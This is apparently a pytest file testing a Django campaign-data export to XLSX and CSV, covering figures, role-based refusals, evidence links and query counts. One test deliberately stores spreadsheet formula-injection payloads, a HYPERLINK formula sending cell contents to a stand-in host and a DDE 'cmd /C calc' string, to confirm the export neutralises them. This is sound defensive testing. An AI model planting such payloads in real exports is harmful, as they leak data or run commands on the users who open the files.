"""The campaign export (XLSX, zip of CSV, one CSV): content read back, who may, neutralised text,
queries independent of the number of units."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dti.assessments.models import Evidence
from dti.audit.models import AuditEntry
from dti.results.selectors import dec
from tests.test_list_queries import add_units

REFUSED = "Chỉ cơ quan tổ chức, Hội đồng đánh giá, quản trị hệ thống và người xem mới được xuất dữ liệu cả kỳ đánh giá."


def url(world: dict[str, Any], kind: str = "") -> str:
    pk = world["campaign"].pk
    return f"/xuat/ky/{pk}/{kind}/" if kind else f"/xuat/ky/{pk}/"


def body(response: Any) -> bytes:
    """A download's bytes (the test client closes its file once they are read)."""
    return b"".join(response.streaming_content)


def workbook(login: Any, world: dict[str, Any], persona: str = "organiser") -> Any:
    response = login(persona).get(url(world, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "no-store" in response["Cache-Control"]
    return load_workbook(io.BytesIO(body(response)))


def records(sheet: Any) -> list[dict[str, Any]]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def cells(sheet: Any) -> list[dict[str, Any]]:
    """Each row's cells by header (to read number formats)."""
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def test_the_workbook_holds_the_figures_the_pages_show(published: dict[str, Any], login: Any) -> None:
    book = workbook(login, published)
    assert book.sheetnames == [
        "Kỳ đánh giá",
        "Đơn vị",
        "Thông tin chung",
        "Số liệu",
        "Điểm chỉ số",
        "Không áp dụng",
        "Tài liệu kiểm chứng",
        "Điều chỉnh thẩm định",
    ]
    snapshot = published["publication"].snapshot
    shown = {unit["unit"]: unit for group in snapshot["groups"] for unit in group["units"]}
    units = {row["Đơn vị"]: row for row in records(book["Đơn vị"])}
    for name, unit in shown.items():
        assert Decimal(str(units[name]["Tổng điểm công bố"])) == dec(unit["total"])
        assert units[name]["Xếp hạng công bố"] == unit["rank"]
        assert Decimal(str(units[name]["Tổng điểm tự đánh giá"])) == dec(unit["self_total"])
    assert isinstance(units["UBND huyện Một"]["Gửi lúc"], datetime.datetime)
    scores = {(row["Đơn vị"], row["Mã chỉ số"]): row for row in records(book["Điểm chỉ số"])}
    one_i2 = scores["UBND huyện Một", "I.2"]
    assert (one_i2["Điểm theo công thức"], one_i2["Điểm tự đánh giá"]) == (7.5, 7.5)
    assert (one_i2["Điểm thẩm định"], one_i2["Điểm công bố"]) == (6, 6)
    one_ii2 = scores["UBND huyện Một", "II.2"]
    assert (one_ii2["Điểm theo công thức"], one_ii2["Điểm tự đánh giá"]) == (6, 8)
    for code, figure in shown["UBND huyện Một"]["items"].items():
        assert Decimal(str(scores["UBND huyện Một", code]["Điểm công bố"])) == dec(figure)
    number = next(row for row in cells(book["Điểm chỉ số"]) if row["Mã chỉ số"].value == "I.2")
    assert number["Điểm thẩm định"].data_type == "n"
    assert number["Điểm thẩm định"].number_format == "#,##0.00"
    inputs = {(r["unit"], r["code"], r["field"]): r["value"] for r in records(book["Số liệu"])}
    assert inputs["UBND huyện Một", "I.2", "a"] == 15
    assert inputs["UBND huyện Một", "I.1", "truong_ban"] == "chu_tich"
    assert inputs["UBND huyện Hai", "II.1", "ban_hanh"] == "không"
    adjustments = records(book["Điều chỉnh thẩm định"])
    adjusted = next(r for r in adjustments if (r["Đơn vị"], r["Mã chỉ số"]) == ("UBND huyện Một", "I.2"))
    assert adjusted["Lý do điều chỉnh"] == "Chỉ 12 xã có chuyên mục"
    assert adjusted["Người thẩm định"] == "Appraiser"
    facts = {row["Mục"]: row["Giá trị"] for row in records(book["Kỳ đánh giá"])}
    assert (facts["Năm đánh giá"], facts["Số đơn vị"], facts["Phiên bản kết quả công bố"]) == (2023, 2, 1)
    year = next(row for row in cells(book["Kỳ đánh giá"]) if row["Mục"].value == "Năm đánh giá")
    assert year["Giá trị"].number_format == "General"
    general = {(r["Đơn vị"], r["Mã"]): r["Giá trị"] for r in records(book["Thông tin chung"])}
    assert general["UBND huyện Một", "so_xa"] == 20


def test_na_and_evidence_with_absolute_links(world: dict[str, Any], login: Any, settings: Any) -> None:
    settings.SITE_URL = "https://dti.example.vn/"
    assessment = world["assessment"]
    assessment.entries.create(code="II.1", na_requested=True, na_reason="Chưa thành lập", version=1)
    stored = Evidence(assessment=assessment, code="I.1", kind=Evidence.Kind.FILE, original_name="qd.pdf", size=3)
    stored.file.save("qd.pdf", ContentFile(b"pdf"), save=False)
    stored.doc_number = "12/QĐ-UBND"
    stored.doc_date = datetime.date(2023, 3, 15)
    stored.save()
    book = workbook(login, world)
    (na,) = records(book["Không áp dụng"])
    assert (na["Đơn vị"], na["Mã chỉ số"], na["Lý do"]) == ("UBND huyện Một", "II.1", "Chưa thành lập")
    (document,) = cells(book["Tài liệu kiểm chứng"])
    assert document["Đường dẫn tải về"].value == f"https://dti.example.vn/danh-gia/minh-chung/{stored.pk}/"
    assert document["Ngày ban hành"].value == datetime.datetime(2023, 3, 15)
    assert document["Ngày ban hành"].number_format == "dd/mm/yyyy"
    assert document["Số, ký hiệu văn bản"].value == "12/QĐ-UBND"


def test_the_zip_holds_one_csv_per_kind_in_utf8_with_bom(published: dict[str, Any], login: Any) -> None:
    response = login("chair").get(url(published, "zip"))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(body(response))) as package:
        assert "diem.csv" in package.namelist() and "dieu-chinh.csv" in package.namelist()
        data = package.read("diem.csv")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if (r["Đơn vị"], r["Mã chỉ số"]) == ("UBND huyện Một", "I.2"))
    assert (row["Điểm theo công thức"], row["Điểm thẩm định"], row["Điểm công bố"]) == ("7.50", "6.00", "6.00")
    one = login("chair").get(url(published, "don-vi"))
    assert one["Content-Type"] == "text/csv; charset=utf-8"
    assert body(one).decode("utf-8-sig").startswith("Đơn vị,Loại đơn vị")


def test_the_viewer_gets_no_appraisal_data(published: dict[str, Any], login: Any) -> None:
    book = workbook(login, published, "viewer")
    assert "Điều chỉnh thẩm định" not in book.sheetnames
    assert "Điểm thẩm định" not in records(book["Điểm chỉ số"])[0]
    assert "Tổng điểm công bố" in records(book["Đơn vị"])[0]
    response = login("viewer").get(url(published, "dieu-chinh"))
    assert response.status_code == 403
    assert REFUSED in response.content.decode()
    page = login("viewer").get(url(published)).content.decode()
    assert "dieu-chinh" not in page and "/xuat/ky/" in page


@pytest.mark.parametrize("persona", ["reporter", "leader", "other_reporter", "other_leader", "appraiser"])
@pytest.mark.parametrize("kind", ["", "xlsx", "zip", "so-lieu"])
def test_a_units_people_and_appraisers_are_refused(world: dict[str, Any], login: Any, persona: str, kind: str) -> None:
    before = AuditEntry.objects.count()
    response = login(persona).get(url(world, kind))
    assert response.status_code == 403
    assert REFUSED in response.content.decode()
    assert AuditEntry.objects.count() == before


def test_anonymous_is_sent_to_log_in_and_an_unknown_kind_is_not_found(world: dict[str, Any], login: Any) -> None:
    response = login("anonymous").get(url(world, "xlsx"))
    assert response.status_code == 302 and response["Location"].startswith("/dang-nhap/?next=")
    assert login("organiser").get(url(world, "pdf")).status_code == 404


def test_text_that_looks_like_a_formula_is_neutralised(world: dict[str, Any], login: Any) -> None:
    unit = world["unit"]
    unit.name = '=HYPERLINK("http://x.example/?"&A1,"bấm")'
    unit.save()
    world["assessment"].entries.create(code="II.1", na_requested=True, na_reason="+1+cmd|' /C calc'!A0", version=1)
    book = workbook(login, world)
    names = [row["Đơn vị"] for row in records(book["Đơn vị"])]
    assert "'" + unit.name in names
    (na,) = records(book["Không áp dụng"])
    assert na["Lý do"] == "'+1+cmd|' /C calc'!A0"
    data = body(login("organiser").get(url(world, "khong-ap-dung"))).decode("utf-8-sig")
    assert "'+1+cmd" in data and "'=HYPERLINK" in data


def test_the_campaign_page_links_to_the_export_for_those_who_may(world: dict[str, Any], login: Any) -> None:
    page = f"/ky-danh-gia/{world['campaign'].pk}/"
    assert 'id="xuat-du-lieu"' in login("organiser").get(page).content.decode()
    assert 'id="xuat-du-lieu"' not in login("reporter").get(page).content.decode()


def _queries(client: Any, address: str) -> int:
    body(client.get(address))  # warms the caches (session, user, parsed framework)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(address)
        assert response.status_code == 200
        body(response)
    return len(captured)


def test_the_queries_do_not_grow_with_the_units(published: dict[str, Any], login: Any) -> None:
    client = login("organiser")
    counts = []
    first = 1
    for size in (10, 100):
        add_units(published, first, size - (first - 1))
        first = size + 1
        counts.append(_queries(client, url(published, "xlsx")))
    assert counts[0] == counts[1]
